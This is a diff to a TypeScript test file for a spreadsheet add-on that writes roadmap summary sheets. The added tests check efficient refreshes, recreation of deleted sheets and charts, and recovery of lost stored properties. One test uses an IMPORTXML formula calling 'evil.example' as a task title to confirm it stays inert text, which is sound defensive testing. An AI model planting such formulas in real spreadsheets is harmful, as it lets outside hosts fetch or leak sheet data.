@@ -8,6 +8,7 @@ import { type WriteResult, writeSummaries } from '../../../src/addon/summaries/w
 import type { Measure, MeasureState, Roadmap } from '../../../src/core/model';
 import type { SheetModel } from '../../../src/core/summary';
 import { buildCouncilReport, buildSummaries } from '../../../src/core/summary';
+import { createPropertiesService, createPropertyStores } from '../../../src/local/emulator/properties';
 import { Runtime } from '../../../src/local/emulator/runtime';
 import { createSpreadsheetApp, type EmulatedSheet, EmulatedSpreadsheet } from '../../../src/local/emulator/spreadsheet';
 import { measure, roadmap, section, state } from '../../core/summary/fixtures';
@@ -19,7 +20,9 @@ function setup(): { runtime: Runtime; ss: EmulatedSpreadsheet } {
   const runtime = new Runtime();
   const ss = new EmulatedSpreadsheet(runtime, { name: 'Дорожная карта 2021', firstSheetName: 'Дорожная карта' });
   const app = createSpreadsheetApp(runtime, { active: ss, ui: {} });
-  (globalThis as unknown as { SpreadsheetApp: unknown }).SpreadsheetApp = app;
+  const g = globalThis as unknown as Record<string, unknown>;
+  g.SpreadsheetApp = app;
+  g.PropertiesService = createPropertiesService(runtime, createPropertyStores(), 'coordinator@example.com');
   return { runtime, ss };
 }
 
@@ -234,6 +237,148 @@ describe('writeSummaries (2021-06-15)', () => {
     expect(spreadsheetOnly(large.create, growth)).toEqual(spreadsheetOnly(small.create, growth));
     expect(large.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBeLessThanOrEqual(4);
     expect(small.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBe(0);
-    expect(spreadsheetOnly(small.refresh).length).toBeGreaterThan(10);
+    // The refresh did write every sheet: one setValues each.
+    expect(small.refresh['Spreadsheet.Range.setValues']).toBe(4);
+  });
+});
+
+/** What a person sees on a sheet: cells (values, formats, links, merges) and charts. */
+function look(sheet: EmulatedSheet) {
+  const charts = sheet.getCharts().map((c) => ({
+    type: c.data.type,
+    ranges: c.data.ranges.map((r) => r.getA1NotationInternal()),
+    position: c.data.position,
+    options: c.data.options,
+  }));
+  return { cells: sheet.snapshotBlock(80, 14), charts, frozen: sheet.frozenRows };
+}
+
+/** Each own sheet's look, by title, after writing `list` to a brand-new spreadsheet. */
+function freshLook(list: SheetModel[]) {
+  const { ss } = setup();
+  const result = write(ss, list);
+  return result.sheets.map((s) => look(sheetNamed(ss, s.name)));
+}
+
+describe('writeSummaries on sheets it remembers (2021-06-15)', () => {
+  const spreadsheetCalls = (runtime: Runtime, step: () => void) => {
+    runtime.ledger.reset();
+    step();
+    const { byMethod, spreadsheetCalls: total } = runtime.ledger.totals();
+    return { byMethod, total };
+  };
+
+  it('leaves every sheet as a first write would, whether the layout changed or not', () => {
+    const { ss } = setup();
+    write(ss, models(sample(40), ss));
+    for (const n of [40, 6, 6, 9]) {
+      const list = models(sample(n), ss);
+      const result = write(ss, list);
+      expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
+    }
+  });
+
+  it('refreshes unchanged data with no search, no size queries, no chart churn, only number formats', () => {
+    const { runtime, ss } = setup();
+    write(ss, models(sample(12), ss));
+    const { byMethod, total } = spreadsheetCalls(runtime, () => write(ss, models(sample(12), ss)));
+    for (const method of [
+      'Spreadsheet.Spreadsheet.createDeveloperMetadataFinder',
+      'Spreadsheet.Sheet.getMaxRows',
+      'Spreadsheet.Sheet.getLastRow',
+      'Spreadsheet.Sheet.removeChart',
+      'Spreadsheet.Sheet.insertChart',
+      'Spreadsheet.Range.setBackgrounds',
+      'Spreadsheet.Range.merge',
+      'Spreadsheet.Sheet.getName',
+    ])
+      expect([method, byMethod[method] ?? 0]).toEqual([method, 0]);
+    expect(byMethod['Spreadsheet.Spreadsheet.getSheetById']).toBe(4);
+    expect(byMethod['Spreadsheet.Range.setNumberFormats']).toBe(4);
+    expect(total).toBeLessThanOrEqual(4 * 8);
+  });
+
+  it('keeps text as text on a same-layout refresh after the person re-formatted the sheet', () => {
+    const { ss } = setup();
+    const titles = (i: number) => (i === 0 ? '=IMPORTXML("http://evil.example/x","//a")' : '2.1');
+    write(ss, models(sample(4, titles), ss));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    task1.getRange(1, 1, 30, 8).setNumberFormat('0.00');
+    write(ss, models(sample(4, titles), ss));
+    expect(ss.formulaLog).toEqual([]);
+    const values = task1.getDataRange().getValues();
+    expect(values.some((r) => r[1] === '=IMPORTXML("http://evil.example/x","//a")')).toBe(true);
+    expect(values.some((r) => r[1] === '2.1')).toBe(true);
+  });
+
+  it('rewrites formats and merges when the layout changed, still without a search or size queries', () => {
+    const { runtime, ss } = setup();
+    write(ss, models(sample(12), ss));
+    const { byMethod } = spreadsheetCalls(runtime, () => write(ss, models(sample(30), ss)));
+    expect(byMethod['Spreadsheet.Range.setBackgrounds']).toBe(4);
+    expect(byMethod['Spreadsheet.Sheet.getMaxRows'] ?? 0).toBe(0);
+    expect(byMethod['Spreadsheet.DeveloperMetadataFinder.find'] ?? 0).toBe(0);
+  });
+
+  it('finds its sheets by metadata again when the memory is lost, and remembers them', () => {
+    const { runtime, ss } = setup();
+    write(ss, models(sample(6), ss));
+    PropertiesService.getDocumentProperties().deleteProperty('roadmap.summarySheets');
+    const lost = spreadsheetCalls(runtime, () => {
+      const result = write(ss, models(sample(6), ss));
+      expect(result.sheets.map((s) => s.created)).toEqual([false, false, false, false]);
+    });
+    expect(lost.byMethod['Spreadsheet.DeveloperMetadataFinder.find']).toBe(1);
+    const again = spreadsheetCalls(runtime, () => write(ss, models(sample(6), ss)));
+    expect(again.byMethod['Spreadsheet.DeveloperMetadataFinder.find'] ?? 0).toBe(0);
+    expect(ss.getSheets()).toHaveLength(5);
+  });
+
+  it('recreates a deleted sheet and puts back a deleted chart', () => {
+    const { ss } = setup();
+    write(ss, models(sample(6), ss));
+    ss.deleteSheet(sheetNamed(ss, 'Задача 2'));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    for (const chart of task1.getCharts()) task1.removeChart(chart);
+    const list = models(sample(6), ss);
+    const result = write(ss, list);
+    expect(result.sheets.map((s) => [s.key, s.created])).toEqual([
+      ['summary', false],
+      ['section:task-1', false],
+      ['section:task-2', true],
+      ['council', false],
+    ]);
+    expect(task1.getCharts()).toHaveLength(1);
+    expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
+  });
+
+  it('falls back to the careful way when the person deleted rows the memory counts on', () => {
+    const { ss } = setup();
+    write(ss, models(sample(30), ss));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    task1.deleteRows(2, task1.getMaxRows() - 2);
+    task1.deleteColumns(3, task1.getMaxColumns() - 2);
+    const list = models(sample(30), ss);
+    const result = write(ss, list);
+    expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
+  });
+
+  it('un-greys a sheet marked «устарело» when its task comes back', () => {
+    const { ss } = setup();
+    write(ss, models(sample(4), ss));
+    const data = sample(4);
+    const oneSection: Roadmap = {
+      ...data.roadmap,
+      sections: data.roadmap.sections.slice(0, 1),
+      measures: data.roadmap.measures.map((m) => ({ ...m, sectionId: 'task-1' })),
+    };
+    write(ss, models({ roadmap: oneSection, states: data.states }, ss));
+    write(ss, models({ roadmap: oneSection, states: data.states }, ss));
+    const stale = sheetNamed(ss, 'Задача 2');
+    expect(stale.getTabColor()).toBe('#9aa0a6');
+    const list = models(sample(4), ss);
+    write(ss, list);
+    expect(stale.getTabColor()).toBeNull();
+    expect(String(stale.getRange(2, 1).getValue())).not.toMatch(/^Устарело/);
   });
 });
